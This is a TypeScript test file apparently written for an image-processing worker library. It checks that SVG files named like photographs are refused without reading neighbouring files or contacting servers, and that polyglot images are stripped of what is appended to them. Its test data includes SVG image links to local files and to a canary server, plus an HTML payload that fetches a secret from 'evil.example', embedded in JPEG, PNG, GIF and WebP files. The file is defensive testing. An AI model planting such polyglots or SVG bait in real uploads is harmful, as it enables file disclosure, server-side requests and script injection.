import { once } from 'node:events';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { signed, small } from '@slugline/testing/samples/image-recipes';
import { colourAt, made, never, noise, plain, sent, tempFolder } from '@slugline/testing/samples/images';
import sharp from 'sharp';
import { afterAll, describe, expect, it, onTestFinished } from 'vitest';
import { openImageWorkers } from '../index.ts';

const workers = openImageWorkers({ concurrency: 1 });
afterAll(() => workers.close());

const make = async (input: { file: string; name: string }) =>
  workers.makeImage(input, await tempFolder(), { parameters: small }, never);

describe('an SVG drawing named like a photograph', () => {
  const drawing = (side: number, ...links: string[]) =>
    Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${side}" ` +
        `height="${side}">${links.map((link) => `<image xlink:href="${link}" width="${side}" height="${side}"/>`)}</svg>`,
    );

  /** A drawing that embeds the picture beside it. */
  async function withNeighbour(...more: string[]) {
    const input = await sent(drawing(64, 'secret.png', ...more), 'holiday.jpg');
    await writeFile(join(dirname(input.file), 'secret.png'), await plain(64, 64, '#ff0000').png().toBuffer());
    return input;
  }

  it('shows the picture beside it when libvips may draw SVG (proof that the bait works)', async () => {
    const { file } = await withNeighbour();
    expect((await colourAt(file, 0.5, 0.5)).slice(0, 3)).toEqual([255, 0, 0]);
  });

  it('is refused, and no file beside it is read', async () => {
    await expect(make(await withNeighbour())).rejects.toMatchObject({ code: 'picture_unsupported' });
  });

  it('is refused, and no server is contacted', async () => {
    let asked = 0;
    const server = createServer((_request, response) => {
      asked += 1;
      response.end();
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    onTestFinished(() => void server.close());
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/canary.png`;
    await expect(make(await withNeighbour(address))).rejects.toMatchObject({ code: 'picture_unsupported' });
    expect(asked).toBe(0);
  });

  it('is refused before anything is drawn, whatever size it claims', async () => {
    // 256 megapixels: less than the default limit of libvips.
    const input = await sent(drawing(16_000), 'holiday.jpg');
    await expect(make(input)).rejects.toMatchObject({ code: 'picture_unsupported', where: 'holiday.jpg' });
  });
});

describe('a picture that is also something else', () => {
  const secret = 'canary-8d41f0';
  const html = Buffer.from(`<html><script>fetch("//evil.example/${secret}")</script></html>`);
  /** The local header of a ZIP file and its data: enough for a program that searches for ZIP files. */
  const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), deflateRawSync(html), html]);
  const inComment = (jpeg: Buffer): Buffer => {
    const head = Buffer.from([0xff, 0xfe, 0, html.length + 2]);
    return Buffer.concat([jpeg.subarray(0, 2), head, html, jpeg.subarray(2)]);
  };
  const jpeg = () => noise(640, 100).jpeg().toBuffer();

  it.each([
    ['JPEG with a page in a comment', async () => inComment(await jpeg())],
    ['JPEG with a page behind it', async () => Buffer.concat([await jpeg(), html])],
    ['JPEG with a ZIP file behind it', async () => Buffer.concat([await jpeg(), zip])],
    ['PNG with a ZIP file behind it', async () => Buffer.concat([await noise(640, 100).toBuffer(), zip])],
    ['GIF with a page behind it', async () => Buffer.concat([await noise(640, 100).gif().toBuffer(), html])],
    [
      'WebP with a page behind it',
      async () => Buffer.concat([await noise(640, 100).webp().toBuffer(), html]),
    ],
  ])('%s is published without the addition', async (_, image) => {
    const { folder, media } = await made(workers, await image(), signed);
    expect(media.width).toBe(640);
    for (const name of await readdir(folder)) {
      const bytes = await readFile(join(folder, name));
      expect(bytes.includes(secret), name).toBe(false);
      expect(bytes.includes('PK\x03\x04'), name).toBe(false);
    }
  });

  it.each([
    ['the first bytes of no format', Buffer.alloc(8), 'picture_unsupported'],
    ['the first bytes of another format', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), 'picture_broken'],
  ])('with %s is refused', async (_, magic, code) => {
    const image = Buffer.concat([magic, (await jpeg()).subarray(magic.length)]);
    await expect(make(await sent(image, 'holiday.jpg'))).rejects.toMatchObject({
      code,
      where: 'holiday.jpg',
      message: expect.stringContaining('holiday.jpg'),
    });
  });

  it('is recognised by its bytes, not by its name', async () => {
    const input = await sent(
      await sharp(await jpeg())
        .webp()
        .toBuffer(),
      'holiday.png',
    );
    expect((await make(input)).width).toBe(640);
  });
});
